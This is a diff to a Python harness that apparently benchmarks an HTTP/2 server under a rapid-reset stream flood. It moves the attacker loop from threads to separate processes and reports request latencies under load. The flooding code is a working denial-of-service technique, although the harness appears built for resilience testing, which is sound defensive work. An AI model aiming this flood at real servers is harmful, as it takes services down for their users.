@@ -6,10 +6,11 @@ An attacker opens streams and resets them at once, as fast as the socket takes t
 whenever it is sent away. Beside them a caller opens one fresh connection after the other and asks for an answer.
 """
 
+import multiprocessing
+import os
 import socket
 import struct
 import sys
-import threading
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -40,6 +41,8 @@ def connect(port):
 
 
 def attack(port, fields, until, sent):
+    # Attackers have machines of their own; here they must not keep the caller who measures from its turn.
+    os.nice(10)
     while time.monotonic() < until:
         try:
             with connect(port) as attacker:
@@ -51,7 +54,8 @@ def attack(port, fields, until, sent):
                     )
                     attacker.sendall(burst)
                     stream += 2 * BURST
-                    sent[0] += BURST
+                    with sent.get_lock():
+                        sent.value += BURST
         except OSError:
             pass
 
@@ -79,15 +83,15 @@ def ask(port, fields):
 
 port, fields, seconds, attackers = int(sys.argv[1]), head(sys.argv[2].encode()), float(sys.argv[3]), int(sys.argv[4])
 until = time.monotonic() + seconds
-sent = [0]
-threads = [threading.Thread(target=attack, args=(port, fields, until, sent)) for _ in range(attackers)]
-for thread in threads:
-    thread.start()
+sent = multiprocessing.Value("q", 0)
+several = [multiprocessing.Process(target=attack, args=(port, fields, until, sent)) for _ in range(attackers)]
+for attacker in several:
+    attacker.start()
 times = []
 while time.monotonic() < until:
     times.append(ask(port, fields))
     time.sleep(0.01)
-for thread in threads:
-    thread.join()
+for attacker in several:
+    attacker.join()
 times.sort()
-print(len(times), times[len(times) // 2] // 1000, times[int(len(times) * 0.99)] // 1000, times[-1] // 1000, sent[0])
+print(len(times), times[len(times) // 2] // 1000, times[int(len(times) * 0.99)] // 1000, times[-1] // 1000, sent.value)
